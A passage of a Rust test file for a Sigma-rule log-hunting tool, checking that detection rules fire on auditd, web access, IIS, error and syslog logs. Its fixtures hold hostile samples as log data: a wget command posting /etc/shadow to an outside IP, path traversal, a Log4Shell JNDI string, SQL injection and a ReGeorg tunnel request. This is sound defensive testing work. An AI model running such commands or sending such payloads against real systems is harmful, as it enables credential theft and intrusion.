        .collect::<Vec<_>>();
        args.extend(extra.iter().map(|a| a.to_string()));
        args.push(d.join("logons.jsonl").to_str().unwrap().to_owned());
        run(&args.iter().map(String::as_str).collect::<Vec<_>>())
    };
    let placeholders = d.join("pipeline.yml");
    let valued = hunt(&["--placeholders", placeholders.to_str().unwrap()]);
    assert!(
        !String::from_utf8_lossy(&valued.stderr).contains("placeholders have no values"),
        "every placeholder has values: no warning"
    );
    let hits = jsonl(&ok(valued));
    let records: Vec<u64> = hits
        .iter()
        .map(|h| h["record_id"].as_u64().unwrap())
        .collect();
    assert_eq!(
        records,
        [1],
        "an admin workstation, case aside, not from the DC"
    );
    // Without values the filter on the DC's addresses excludes nothing: hunt says so on
    // stderr, naming the placeholders, their rule and what to do (the auditor's defect 5: only
    // `rules check` named them).
    let unvalued = hunt(&[]);
    let stderr = String::from_utf8_lossy(&unvalued.stderr).into_owned();
    assert!(
        stderr.contains("warning: these placeholders have no values")
            && stderr.contains("--placeholders FILE")
            && stderr
                .contains("%Admins_Workstations% (1 rule: 44444444-4444-4444-4444-444444444444)")
            && stderr.contains("%dc_ip_addresses% (1 rule: 44444444-4444-4444-4444-444444444444)"),
        "{stderr}"
    );
    assert!(
        jsonl(&ok(unvalued)).is_empty(),
        "no values: nothing matches"
    );

    std::fs::write(d.join("bad.yml"), "Admins_Workstations:\n  nested: map\n").unwrap();
    let bad = hunt(&["--placeholders", d.join("bad.yml").to_str().unwrap()]);
    assert!(!bad.status.success());
    let stderr = String::from_utf8_lossy(&bad.stderr);
    assert!(
        stderr.contains("bad.yml:2:") && stderr.contains("text or numbers"),
        "{stderr}"
    );

    let checked = run(&[
        "rules",
        "check",
        d.join("rule.yml").to_str().unwrap(),
        "--placeholders",
        placeholders.to_str().unwrap(),
        "--json",
    ]);
    let report: serde_json::Value = serde_json::from_str(&ok(checked)).unwrap();
    assert_eq!(report["rules_loaded"], 1, "{report}");
    assert_eq!(report["placeholders_without_values"], serde_json::json!({}));
    // Without the file, the report names the placeholders left without values.
    let checked = run(&["rules", "check", d.join("rule.yml").to_str().unwrap()]);
    let table = ok(checked);
    assert!(
        table.contains("%Admins_Workstations%") && table.contains("%dc_ip_addresses%"),
        "{table}"
    );
}

/// A table shows the first 10,000 rule matches and says how many more there are; the summary
/// and the other formats count and write them all.
#[test]
fn a_table_of_many_matches_shows_the_first_and_counts_the_rest() {
    let dir = tempfile::tempdir().unwrap();
    fixture(dir.path());
    let d = dir.path().to_str().unwrap();
    let lines: Vec<String> = (1..=10_050)
        .map(|i| {
            sysmon1(
                i,
                "2024-01-01T10:00:00Z",
                r"C:\Windows\System32\whoami.exe",
                "whoami",
            )
        })
        .collect();
    std::fs::write(dir.path().join("many.jsonl"), lines.join("\n")).unwrap();
    let (rules, logs) = (format!("{d}/rules"), format!("{d}/many.jsonl"));
    let out = run(&["hunt", "-r", &rules, &logs]);
    let table = ok(out);
    assert!(
        table.contains("… and 50 more rule matches not in this table"),
        "{}",
        &table[table.len().saturating_sub(2_000)..]
    );
    assert!(table.contains("┆ 10000 ") && !table.contains("┆ 10001 "));
    let csv = ok(run(&["hunt", "-r", &rules, "--format", "csv", &logs]));
    assert_eq!(csv.lines().count(), 10_051);
}

/// auditd's own log (audit.log) is read record by record, each the Linux `auditd` log:
/// SigmaHQ's auditd rules fire on the records they describe — an `EXECVE`'s arguments, a
/// RAW `SYSCALL`'s call named from its number, an ENRICHED one's names, a `PATH` — and not
/// on the near misses beside them; the other Linux rules loaded with them stay quiet.
#[test]
fn hunt_reads_auditd_logs_with_the_auditd_rules() {
    let linux =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/sigma/rules/linux");
    let dir = tempfile::tempdir().unwrap();
    let log = "\
type=SYSCALL msg=audit(1700000000.100:100): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c1e0 a1=55d0c1f0 a2=55d0c200 a3=0 items=2 ppid=811 pid=812 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm=\"wget\" exe=\"/usr/bin/wget\" subj=unconfined key=\"exec\"
type=EXECVE msg=audit(1700000000.100:100): argc=3 a0=\"wget\" a1=\"--post-file=/etc/shadow\" a2=\"http://203.0.113.9/u\"
type=PATH msg=audit(1700000000.100:100): item=0 name=\"/usr/bin/wget\" inode=1 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL
type=PROCTITLE msg=audit(1700000000.100:100): proctitle=77676574002D2D706F73742D66696C653D2F6574632F736861646F77
type=EXECVE msg=audit(1700000000.900:101): argc=2 a0=\"wget\" a1=\"-q\"
type=SYSCALL msg=audit(1700000001.200:102): arch=c000003e syscall=133 success=yes exit=0 a0=7ffd1 a1=21b6 a2=103 a3=0 items=2 ppid=811 pid=813 auid=1000 uid=0 euid=0 tty=pts0 ses=3 comm=\"mknod\" exe=\"/usr/bin/mknod\" key=(null)
type=SYSCALL msg=audit(1700000001.300:103): arch=c000003e syscall=132 success=yes exit=0 a0=7ffd1 a1=0 a2=0 a3=0 items=1 ppid=811 pid=814 auid=1000 uid=0 euid=0 tty=pts0 ses=3 comm=\"touch\" exe=\"/usr/bin/touch\" key=(null)
type=SYSCALL msg=audit(1700000002.300:104): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=900 pid=901 auid=4294967295 uid=33 euid=33 tty=(none) ses=4294967295 comm=\"sh\" exe=\"/usr/bin/dash\" key=\"detect_execve_www\"\u{1d}ARCH=x86_64 SYSCALL=execve AUID=\"unset\" UID=\"www-data\" EUID=\"www-data\"
type=SYSCALL msg=audit(1700000002.400:105): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=900 pid=902 auid=1000 uid=0 euid=0 tty=pts0 ses=3 comm=\"sh\" exe=\"/usr/bin/dash\" key=\"exec\"\u{1d}ARCH=x86_64 SYSCALL=execve AUID=\"alice\" UID=\"root\" EUID=\"root\"
node=web01 type=PATH msg=audit(1700000003.400:106): item=1 name=\"/var/run/haldrund.pid\" inode=2 dev=00:19 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE
node=web01 type=PATH msg=audit(1700000003.500:107): item=1 name=\"/var/run/haldrund.pid.bak\" inode=3 dev=00:19 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE
";
    let file = dir.path().join("audit.log");
    std::fs::write(&file, log).unwrap();
    let out = crate::support::vigil()
        .args(["hunt", "--format", "jsonl", "-r"])
        .arg(&linux)
        .arg(&file)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let hits = jsonl(&ok(out));
    let mut found: Vec<(u64, &str)> = hits
        .iter()
        .map(|h| {
            (
                h["record_id"].as_u64().unwrap(),
                h["rule_title"].as_str().unwrap(),
            )
        })
        .collect();
    found.sort();
    assert_eq!(
        found,
        [
            (2, "Data Exfiltration with Wget"),
            (6, "Special File Creation via Mknod Syscall"),
            (8, "Webshell Remote Command Execution"),
            (10, "BPFDoor Abnormal Process ID or Lock File Accessed"),
        ],
        "{stderr}"
    );
    let mknod = hits
        .iter()
        .find(|h| h["record_id"] == 6)
        .map(|h| &h["event"])
        .unwrap();
    assert_eq!(
        (
            &mknod["type"],
            &mknod["syscall"],
            &mknod["SYSCALL"],
            &mknod["exe"],
            &mknod["serial"],
        ),
        (
            &serde_json::json!("SYSCALL"),
            &serde_json::json!("133"),
            &serde_json::json!("mknod"),
            &serde_json::json!("/usr/bin/mknod"),
            &serde_json::json!(102),
        )
    );
    let exfil = hits.iter().find(|h| h["record_id"] == 2).unwrap();
    assert_eq!(exfil["timestamp"], "2023-11-14T22:13:20.100Z", "{exfil}");

    // Read as what they are without being told; declared, the same.
    let declared = crate::support::vigil()
        .args(["hunt", "--format", "jsonl", "-r"])
        .arg(linux.join("auditd"))
        .args(["--logsource", "product=linux,service=auditd"])
        .arg(&file)
        .output()
        .unwrap();
    assert_eq!(jsonl(&ok(declared)).len(), 4);
}

/// Web server access logs (nginx and Apache write the combined format by default) meet
/// SigmaHQ's webserver rules through the taxonomy's W3C field names, and only those rules: the
/// Linux rules loaded beside them never see a web request.
#[test]
fn hunt_reads_web_access_logs_with_the_webserver_rules() {
    let shared = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/sigma/rules");
    let dir = tempfile::tempdir().unwrap();
    let log = r#"198.51.100.23 - - [03/Dec/2026:22:14:01 +0000] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0 (X11; Linux x86_64)"
203.0.113.50 - - [03/Dec/2026:22:15:10 +0000] "GET /index.php?page=../../../etc/passwd HTTP/1.1" 200 1733 "-" "Mozilla/5.0"
203.0.113.50 - - [03/Dec/2026:22:15:11 +0000] "GET /.git/config HTTP/1.1" 404 153 "-" "Mozilla/5.0"
203.0.113.50 - - [03/Dec/2026:22:15:12 +0000] "GET /search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.50%2Fa%7D HTTP/1.1" 200 5120 "-" "curl/8.5.0"
this line is no request
203.0.113.50 - - [03/Dec/2026:22:15:13 +0000] "GET /item.php?id=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1" 500 0 "-" "Mozilla/5.0"
192.0.2.7 - - [03/Dec/2026:22:16:00 +0000] "\x16\x03\x01\x00\xf7\x01\x00\x00\xf3\x03\x03" 400 157 "-" "-"
"#;
    let file = dir.path().join("access.log");
    std::fs::write(&file, log).unwrap();
    let out = crate::support::vigil()
        .args(["hunt", "--format", "jsonl", "-r"])
        .arg(shared.join("web"))
        .arg("-r")
        .arg(shared.join("linux"))
        .arg(&file)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let hits = jsonl(&ok(out));
    let mut found: Vec<(u64, &str)> = hits
        .iter()
        .map(|h| {
            (
                h["record_id"].as_u64().unwrap(),
                h["rule_title"].as_str().unwrap(),
            )
        })
        .collect();
    found.sort();
    assert_eq!(
        found,
        [
            (2, "Path Traversal Exploitation Attempts"),
            (3, "Source Code Enumeration Detection by Keyword"),
            (6, "SQL Injection Strings In URI"),
        ],
        "{stderr}"
    );
    let traversal = &hits[0]["event"];
    assert_eq!(
        (
            &traversal["c-ip"],
            &traversal["cs-uri-stem"],
            &traversal["cs-uri-query"],
            &traversal["sc-status"]
        ),
        (
            &serde_json::json!("203.0.113.50"),
            &serde_json::json!("/index.php"),
            &serde_json::json!("page=../../../etc/passwd"),
            &serde_json::json!(200)
        )
    );
    assert_eq!(hits[0]["timestamp"], "2026-12-03T22:15:10.000Z");
    // The line that is no request is named with its line; the rest were read.
    assert!(
        stderr.contains("access.log: record 5: not a web access log line"),
        "{stderr}"
    );
    assert!(stderr.contains("1 file, 6 events"), "{stderr}");
}

/// Apache and nginx error logs meet SigmaHQ's rules for those services (`service: apache`,
/// `service: nginx`); the real Apache error log of ../shared/data is read whole, without an
/// error.
#[test]
fn hunt_reads_web_server_error_logs() {
    let data = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data");
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("apache-error.log"),
        "[Sun Dec 04 04:47:44 2005] [notice] workerEnv.init() ok /etc/httpd/conf/workers2.properties\n\
         [Sun Dec 04 04:51:18 2005] [notice] child pid 6725 exit signal Segmentation fault (11)\n",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("nginx-error.log"),
        "2026/12/03 22:15:10 [alert] 1#1: worker process 1234 exited on signal 6 (core dumped)\n",
    )
    .unwrap();
    let out = crate::support::vigil()
        .args(["hunt", "--format", "jsonl", "-r"])
        .arg(data.join("sigma/rules/web"))
        .arg(dir.path())
        .arg(data.join("logs/Apache"))
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let hits = jsonl(&ok(out));
    let found: Vec<(&str, u64, &str)> = hits
        .iter()
        .map(|h| {
            (
                h["rule_title"].as_str().unwrap(),
                h["record_id"].as_u64().unwrap(),
                h["event"]["error_log_format"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        found,
        [
            ("Apache Segmentation Fault", 2, "apache"),
            ("Nginx Core Dump", 1, "nginx")
        ],
        "{stderr}"
    );
    assert!(stderr.contains("3 files, 2003 events"), "{stderr}");
    assert!(stderr.contains(" 0 errors"), "{stderr}");
}

/// An IIS log (W3C extended, its fields named by its header) meets SigmaHQ's webserver rules
/// like an access log: the query is its own field, as IIS writes it.
#[test]
fn hunt_reads_iis_logs_by_their_header() {
    let web = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/sigma/rules/web");
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("u_ex261203.log");
    std::fs::write(
        &log,
        "#Software: Microsoft Internet Information Services 10.0\r\n\
         #Version: 1.0\r\n\
         #Date: 2026-12-03 22:00:00\r\n\
         #Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n\
         2026-12-03 22:15:10 10.0.0.4 GET /default.aspx - 443 - 198.51.100.23 Mozilla/5.0+(Windows+NT+10.0) - 200 0 0 12\r\n\
         2026-12-03 22:15:11 10.0.0.4 GET /download.aspx file=C:/Windows/win.ini 443 - 203.0.113.50 curl/8.5.0 - 200 0 0 3\r\n",
    )
    .unwrap();
    let out = crate::support::vigil()
        .args(["hunt", "--format", "jsonl", "-r"])
        .arg(&web)
        .arg(&log)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let hits = jsonl(&ok(out));
    assert_eq!(hits.len(), 1, "{stderr}");
    assert_eq!(hits[0]["rule_title"], "Suspicious Windows Strings In URI");
    assert_eq!(hits[0]["record_id"], 6);
    assert_eq!(hits[0]["timestamp"], "2026-12-03T22:15:11.000Z");
    assert_eq!(hits[0]["event"]["c-ip"], "203.0.113.50");
    assert_eq!(
        hits[0]["event"]["cs-uri"],
        "/download.aspx?file=C:/Windows/win.ini"
    );
    assert!(stderr.contains("1 file, 2 events"), "{stderr}");
}

/// What a hunt found: file name, record and rule title, in that order.
type Found<'a> = (&'a str, u64, &'a str);

/// A hunt's flags, and what it should find.
type Case<'a> = (&'a [&'a str], &'a [Found<'a>]);

/// What `vigil hunt -r rules FLAGS logs` found, sorted.
fn found_by(rules: &Path, flags: &[&str], logs: &Path) -> Vec<(String, u64, String)> {
    let out = crate::support::vigil()
        .args(["hunt", "--format", "jsonl", "-r"])
        .arg(rules)
        .args(flags)
        .arg(logs)
        .output()
        .unwrap();
    let mut found: Vec<(String, u64, String)> = jsonl(&ok(out))
        .iter()
        .map(|h| {
            let file = Path::new(h["file"].as_str().unwrap()).file_name().unwrap();
            (
                file.to_string_lossy().into_owned(),
                h["record_id"].as_u64().unwrap(),
                h["rule_title"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    found.sort();
    found
}

/// SigmaHQ's path traversal rule for web server logs.
fn traversal_rule() -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(
        "../../../shared/data/sigma/rules/web/webserver_generic/web_path_traversal_exploitation_attempt.yml",
    )
}

/// A `rules` folder in `dir` holding [`traversal_rule`], for a test to add its own rules beside.
fn traversal_rules_in(dir: &Path) -> std::path::PathBuf {
    let rules = dir.join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::copy(traversal_rule(), rules.join("traversal.yml")).unwrap();
    rules
}

/// `--field-map` reads the JSON logs only: an access log hunted beside them keeps the names
/// Vigil gives it, so a mixed collection loses no detection. `--web-field-map` is the web
/// server logs' own (SigmaHQ's older rules put paths in `cs-uri-query`). Each row: the flags,
/// then the (file, record) found.
#[test]
fn field_maps_read_the_logs_they_are_given_for() {
    let dir = tempfile::tempdir().unwrap();
    let rules = traversal_rules_in(dir.path());
    std::fs::write(
        rules.join("vsphere.yml"),
        "title: vSphere Upload\nid: 6c1f6b0e-0000-4000-8000-000000000004\nlogsource: {category: webserver}\ndetection: {sel: {cs-uri-query|contains: '/ui/vropspluginui/rest/services/uploadova'}, condition: sel}\nlevel: high\n",
    )
    .unwrap();
    let logs = dir.path().join("logs");
    std::fs::create_dir(&logs).unwrap();
    std::fs::write(
        logs.join("access.log"),
        "203.0.113.9 - - [05/Dec/2026:10:00:01 +0000] \"GET /page.php?file=../../../etc/passwd HTTP/1.1\" 200 512 \"-\" \"curl/8.5.0\"\n\
         203.0.113.9 - - [05/Dec/2026:10:00:02 +0000] \"POST /ui/vropspluginui/rest/services/uploadova HTTP/1.1\" 200 5 \"-\" \"curl/8.5.0\"\n",
    )
    .unwrap();
    std::fs::write(
        logs.join("nginx-ecs.jsonl"),
        "{\"@timestamp\":\"2026-12-05T10:00:00Z\",\"url\":{\"path\":\"/p\",\"query\":\"f=../../../etc/shadow\"}}\n",
    )
    .unwrap();
    let cases: [Case<'_>; 4] = [
        (
            &[],
            &[("access.log", 1, "Path Traversal Exploitation Attempts")],
        ),
        (
            &[
                "--logsource",
                "category=webserver",
                "--field-map",
                "cs-uri-query=url.query",
            ],
            &[
                ("access.log", 1, "Path Traversal Exploitation Attempts"),
                ("nginx-ecs.jsonl", 1, "Path Traversal Exploitation Attempts"),
            ],
        ),
        (
            &["--web-field-map", "cs-uri-query=cs-uri"],
            &[
                ("access.log", 1, "Path Traversal Exploitation Attempts"),
                ("access.log", 2, "vSphere Upload"),
            ],
        ),
        (
            &[
                "--logsource",
                "category=webserver",
                "--field-map",
                "cs-uri-query=url.query",
                "--web-field-map",
                "cs-uri-query=cs-uri",
            ],
            &[
                ("access.log", 1, "Path Traversal Exploitation Attempts"),
                ("access.log", 2, "vSphere Upload"),
                ("nginx-ecs.jsonl", 1, "Path Traversal Exploitation Attempts"),
            ],
        ),
    ];
    for (flags, expected) in cases {
        let expected: Vec<(String, u64, String)> = expected
            .iter()
            .map(|&(f, r, t)| (f.to_owned(), r, t.to_owned()))
            .collect();
        assert_eq!(found_by(&rules, flags, &logs), expected, "{flags:?}");
    }
}

/// A user name with blanks (Basic authentication's `john doe`) is the user, not a shift of the
/// fields: every line is read, with its client, and the request of the last is found.
#[test]
fn a_user_name_with_blanks_stays_the_user() {
    let dir = tempfile::tempdir().unwrap();
    let rules = traversal_rules_in(dir.path());
    std::fs::write(
        rules.join("client.yml"),
        "title: Client\nid: 6c1f6b0e-0000-4000-8000-000000000002\nlogsource: {category: webserver}\ndetection: {sel: {c-ip: 203.0.113.9}, condition: sel}\nlevel: low\n",
    )
    .unwrap();
    let log = dir.path().join("access.log");
    std::fs::write(
        &log,
        "203.0.113.9 - john doe [05/Dec/2026:10:00:00 +0000] \"GET /admin/ HTTP/1.1\" 401 381 \"-\" \"Mozilla/5.0\"\n\
         203.0.113.9 - jdoe [05/Dec/2026:10:00:01 +0000] \"GET /admin/ HTTP/1.1\" 401 381 \"-\" \"Mozilla/5.0\"\n\
         203.0.113.9 - a b c [05/Dec/2026:10:00:02 +0000] \"GET /page.php?file=../../../etc/passwd HTTP/1.1\" 401 381 \"-\" \"Mozilla/5.0\"\n\
         shop.example:443 203.0.113.9 - mary ann [05/Dec/2026:10:00:03 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"Mozilla/5.0\"\n",
    )
    .unwrap();
    let out = crate::support::vigil()
        .args(["hunt", "--format", "jsonl", "-r"])
        .arg(&rules)
        .arg(&log)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let hits = jsonl(&ok(out));
    let mut found: Vec<(u64, &str, &str, &str)> = hits
        .iter()
        .map(|h| {
            (
                h["record_id"].as_u64().unwrap(),
                h["rule_title"].as_str().unwrap(),
                h["event"]["access_log_format"].as_str().unwrap(),
                h["event"]["cs-username"].as_str().unwrap(),
            )
        })
        .collect();
    found.sort();
    assert_eq!(
        found,
        [
            (1, "Client", "combined", "john doe"),
            (2, "Client", "combined", "jdoe"),
            (3, "Client", "combined", "a b c"),
            (
                3,
                "Path Traversal Exploitation Attempts",
                "combined",
                "a b c"
            ),
            (4, "Client", "vhost_combined", "mary ann"),
        ],
        "{stderr}"
    );
    assert!(stderr.contains(" 0 errors"), "{stderr}");
}

/// An access line in a file read as syslog has its own time, though no syslog header gives it
/// one: a --from/--to window holding the request finds it.
#[test]
fn an_access_line_in_a_syslog_file_keeps_its_time() {
    let rule = traversal_rule();
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("collected.log");
    std::fs::write(
        &log,
        "Dec  5 09:59:58 web01 sshd[812]: Accepted publickey for deploy from 10.0.0.2 port 51220 ssh2\n\
         203.0.113.9 - - [05/Dec/2026:10:00:01 +0100] \"GET /page.php?file=../../../etc/passwd HTTP/1.1\" 200 512 \"-\" \"curl/8.5.0\"\n",
    )
    .unwrap();
    let hunt = |window: &[&str]| {
        let out = crate::support::vigil()
            .args(["hunt", "--format", "jsonl", "-r"])
            .arg(&rule)
            .args(window)
            .arg(&log)
            .output()
            .unwrap();
        jsonl(&ok(out))
    };
    let hits = hunt(&[]);
    assert_eq!(hits.len(), 1, "{hits:?}");
    assert_eq!(hits[0]["timestamp"], "2026-12-05T09:00:01.000Z");
    assert_eq!(hits[0]["event"]["timestamp"], "2026-12-05T10:00:01+01:00");
    let within = hunt(&[
        "--from",
        "2026-12-05T09:00:00Z",
        "--to",
        "2026-12-05T09:00:02Z",
    ]);
    assert_eq!(within.len(), 1, "{within:?}");
    assert!(hunt(&["--from", "2026-12-05T09:00:02Z"]).is_empty());
}

/// SigmaHQ's ReGeorg rule wants a request with no Referer and no User-Agent (`null`): Apache's
/// and nginx's `"-"` is no value, as IIS's `-` is, so the same request is found in either log.
#[test]
fn a_dash_in_an_access_log_is_no_value_as_in_an_iis_log() {
    let rule = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/data/sigma/rules/web/webserver_generic/web_webshell_regeorg.yml");
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("access.log"),
        "203.0.113.9 - - [05/Dec/2026:10:00:00 +0000] \"POST /tunnel.jsp?cmd=connect&target=10.0.0.5&port=22 HTTP/1.1\" 200 0 \"-\" \"-\"\n\
         203.0.113.9 - - [05/Dec/2026:10:00:01 +0000] \"POST /tunnel.jsp?cmd=connect&target=10.0.0.5&port=22 HTTP/1.1\" 200 0 \"-\" \"python-requests/2.31\"\n",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("u_ex261205.log"),
        "#Software: Microsoft Internet Information Services 10.0\n\
         #Fields: date time c-ip cs-method cs-uri-stem cs-uri-query sc-status cs(User-Agent) cs(Referer)\n\
         2026-12-05 10:00:00 203.0.113.9 POST /tunnel.aspx cmd=connect&target=10.0.0.5&port=22 200 - -\n",
    )
    .unwrap();
    let out = crate::support::vigil()
        .args(["hunt", "--format", "jsonl", "-r"])
        .arg(&rule)
        .arg(dir.path())
        .output()
        .unwrap();
    let hits = jsonl(&ok(out));
    let mut found: Vec<(String, u64)> = hits
        .iter()
        .map(|h| {
            let file = Path::new(h["file"].as_str().unwrap()).file_name().unwrap();
            (
                file.to_string_lossy().into_owned(),
                h["record_id"].as_u64().unwrap(),
            )
        })
        .collect();
    found.sort();
    assert_eq!(
        found,
        [
            ("access.log".to_owned(), 1),
            ("u_ex261205.log".to_owned(), 3)
        ]
    );
    let access = hits.iter().find(|h| h["record_id"] == 1).unwrap();
    assert!(
        access["event"].get("cs-referer").is_none() && access["event"].get("cs-username").is_none(),
        "{access}"
    );
}

/// A declared logsource says what the JSON, syslog and other text logs are; a web server's own
/// lines (access, IIS and error logs, in files or carried by syslog) stay what they are, so a
/// `--logsource` meant for the other logs of a collection never hides them from the webserver
/// rules. Each row: the flags, then the (file, record, rule) found.
#[test]
fn a_declared_logsource_leaves_web_server_lines_what_they_are() {
    let web = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/sigma/rules/web");
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    for rule in [
        "webserver_generic/web_path_traversal_exploitation_attempt.yml",
        "product/apache/web_apache_segfault.yml",
    ] {
        std::fs::copy(
            web.join(rule),
            rules.join(Path::new(rule).file_name().unwrap()),
        )
        .unwrap();
    }
    std::fs::write(
        rules.join("auth.yml"),
        "title: SSH Failed Password\nid: 5b7c8d9e-0f1a-4b2c-8d3e-4f5a6b7c8d9e\nlogsource:\n  product: linux\n  service: auth\ndetection:\n  keywords:\n    - 'Failed password'\n  condition: keywords\nlevel: low\n",
    )
    .unwrap();
    let logs = dir.path().join("logs");
    std::fs::create_dir(&logs).unwrap();
    let request = r#"203.0.113.9 - - [05/Dec/2026:10:00:01 +0000] "GET /page.php?file=../../../etc/passwd HTTP/1.1" 200 512 "-" "curl/8.5.0""#;
    std::fs::write(logs.join("access.log"), format!("{request}\n")).unwrap();
    std::fs::write(
        logs.join("u_ex261205.log"),
        "#Software: Microsoft Internet Information Services 10.0\n\
         #Fields: date time c-ip cs-method cs-uri-stem cs-uri-query sc-status cs(User-Agent)\n\
         2026-12-05 10:00:02 203.0.113.9 GET /page.aspx file=../../../etc/passwd 200 curl/8.5.0\n",
    )
    .unwrap();
    std::fs::write(
        logs.join("error_log"),
        "[Sat Dec 05 10:00:03 2026] [notice] child pid 6725 exit signal Segmentation fault (11)\n",
    )
    .unwrap();
    std::fs::write(
        logs.join("syslog"),
        format!(
            "Dec  5 10:00:04 web01 nginx: {request}\n\
             Dec  5 10:00:05 web01 sshd[812]: Failed password for root from 203.0.113.9 port 51220 ssh2\n"
        ),
    )
    .unwrap();
    let (traversal, segfault, auth) = (
        "Path Traversal Exploitation Attempts",
        "Apache Segmentation Fault",
        "SSH Failed Password",
    );
    let web_lines = [
        ("access.log", 1, traversal),
        ("error_log", 1, segfault),
        ("syslog", 1, traversal),
        ("u_ex261205.log", 3, traversal),
    ];
    let with_auth = {
        let mut all = web_lines.to_vec();
        all.push(("syslog", 2, auth));
        all.sort();
        all
    };
    let cases: [Case<'_>; 5] = [
        (&[], &with_auth),
        (&["--logsource", "product=linux,service=auth"], &with_auth),
        (&["--text", "--logsource", "product=myapp"], &web_lines),
        (&["--logsource", "category=webserver"], &web_lines),
        (&["--logsource", "category=proxy"], &web_lines),
    ];
    for (flags, expected) in cases {
        let expected: Vec<(String, u64, String)> = expected
            .iter()
            .map(|&(f, r, t)| (f.to_owned(), r, t.to_owned()))
            .collect();
        assert_eq!(found_by(&rules, flags, &logs), expected, "{flags:?}");
    }
}

/// A log cut from a larger one starts mid-line: the lines after the cut still tell its format,
/// and the whole file is hunted.
#[test]
fn a_log_cut_mid_line_is_told_by_the_lines_after_the_cut() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::write(
        rules.join("root.yml"),
        "title: Failed Root Login\nid: 0f0e1d2c-3b4a-4596-8877-665544332211\nlogsource:\n  product: linux\n  service: sshd\ndetection:\n  keywords:\n    - 'Failed password for root'\n  condition: keywords\nlevel: medium\n",
    )
    .unwrap();
    let log = dir.path().join("auth.log.part");
    std::fs::write(
        &log,
        "3.9 port 52311 ssh2\n\
         Dec  3 22:15:10 bastion sshd[42]: Failed password for root from 203.0.113.9 port 52311 ssh2\n\
         Dec  3 22:15:11 bastion sshd[42]: Accepted publickey for bob from 203.0.113.10\n",
    )
    .unwrap();
    let out = crate::support::vigil()
        .args(["hunt", "--format", "jsonl", "-r"])
        .arg(&rules)
        .arg(&log)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let hits = jsonl(&ok(out));
    assert_eq!(hits.len(), 1, "{hits:?}");
    assert_eq!(hits[0]["record_id"], 2);
    // RFC 3164 is read leniently: the partial line is kept as a message of its own.
    assert!(
        stderr.contains("3 events") && stderr.contains("0 errors"),
        "{stderr}"
    );
}

/// An application's own log, in no format Vigil knows: named without --text it is an error
/// naming the flag; with --text its lines are messages that the rules of the logsource given
/// meet (and no rule of another product, as SigmaHQ's Cisco keyword rules would).
#[test]
fn hunt_reads_other_text_line_by_line_with_text() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::write(
        rules.join("webshell.yml"),
        "title: Webshell Upload\nid: 7c1f6a3e-1b2d-4e5f-8a9b-0c1d2e3f4a5b\nlogsource:\n  product: myapp\ndetection:\n  keywords:\n    - 'uploaded cmd.jsp'\n  condition: keywords\nlevel: high\n",
    )
    .unwrap();
    let log = dir.path().join("app.log");
    std::fs::write(
        &log,
        "2026-12-03 22:15:10,123 INFO user bob logged in\n\
         2026-12-03 22:15:11,456 WARN user bob uploaded cmd.jsp to /files\n",
    )
    .unwrap();
    let rules = rules.to_str().unwrap();
    let refused = crate::support::vigil()
        .args(["hunt", "-r", rules, log.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&refused.stderr).contains("give --text"),
        "{}",
        String::from_utf8_lossy(&refused.stderr)
    );
    // Text says nothing of what log it is: a rule for a product meets it once told.
    let hunt = |extra: &[&str]| {
        let out = crate::support::vigil()
            .args(["hunt", "--text", "--format", "jsonl", "-r", rules])
            .args(extra)
            .arg(&log)
            .output()
            .unwrap();
        jsonl(&ok(out))
    };
    assert!(hunt(&[]).is_empty());
    let hits = hunt(&["--logsource", "product=myapp"]);
    assert_eq!(hits.len(), 1, "{hits:?}");
    assert_eq!(hits[0]["record_id"], 2);
    assert_eq!(hits[0]["timestamp"], "2026-12-03T22:15:11.456Z");
    // Written in Berlin's winter time: an hour earlier in UTC.
    let hits = hunt(&[
        "--logsource",
        "product=myapp",
